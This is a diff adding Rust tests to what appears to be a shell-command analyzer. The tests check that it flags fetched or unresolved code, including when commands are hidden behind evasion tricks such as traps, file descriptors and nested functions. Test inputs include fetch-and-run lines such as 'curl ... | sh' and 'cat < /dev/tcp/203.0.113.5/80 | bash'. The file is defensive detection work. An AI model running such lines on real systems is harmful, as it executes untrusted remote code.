@@ -265,6 +265,16 @@ fn what_cannot_be_known_is_said() {
     assert_eq!(facts("sh -c \"$(generate)\""), [FactKind::CodeUnresolved]);
     assert_eq!(facts("curl -s http://h/i | sh"), [FactKind::CodeFetched]);
     assert_eq!(facts("eval \"$(ssh-agent -s)\""), []);
+    assert_eq!(
+        facts("cat < /dev/tcp/203.0.113.5/80 | bash"),
+        [FactKind::CodeFetched]
+    );
+    assert!(facts("shopt -s extglob; /bin/@(zz9) 1").contains(&FactKind::CommandUnresolved));
+    assert_eq!(
+        facts("alias a='ls '\nalias b='x|1'\na b"),
+        [FactKind::CommandUnresolved]
+    );
+    assert_eq!(facts("seq 1 100000 | tail -n 3; ls $(seq 1 100000)"), []);
     assert_eq!(facts("bash"), [FactKind::Interactive]);
     assert_eq!(
         facts("\"$(generate)\"/bin/zz9 1"),
@@ -300,6 +310,40 @@ fn a_script_too_long_to_follow_is_still_read() {
     let script = format!("{}{}zz9 1\n", calls_many, "f; f; f; f\n".repeat(2_000));
     let text = format!("cat > s <<'E'\n{script}E\nsh s; zz9 2");
     assert_eq!(calls(&text), ["1", "2"]);
+}
+
+/// `count` texts made from their number.
+fn many(count: usize, text: impl Fn(usize) -> String) -> String {
+    (0..count).map(text).collect()
+}
+
+#[test]
+fn more_than_what_is_kept_apart_is_said() {
+    let arms = many(12, |n| format!("{n}) echo true {n};; "));
+    let traps = many(1_100, |n| format!("trap 'true {n}' USR1; "));
+    let descriptors = many(300, |n| format!("exec {}< <(echo true); ", n + 3));
+    let inner = (0..12).rev().fold("zz9 1".to_owned(), |body, n| {
+        format!("f{n}() {{ {body}; }}")
+    });
+    for text in [
+        format!("eval \"$(case $1 in {arms} *) echo zz9 1;; esac)\""),
+        format!("{{ case $1 in {arms} *) echo zz9 1;; esac; }} | sh"),
+        format!("{traps} trap 'zz9 1' EXIT"),
+        format!("{descriptors} exec 999< <(echo 'zz9 1'); sh <&999"),
+        inner,
+    ] {
+        let analysis = run(&text);
+        let said = analysis.status == Status::NotUnderstood
+            || analysis
+                .facts
+                .iter()
+                .any(|fact| fact.kind != FactKind::Interactive);
+        assert!(
+            said || calls(&text) == ["1"],
+            "{}",
+            text.get(..60).unwrap_or(&text)
+        );
+    }
 }
 
 #[test]
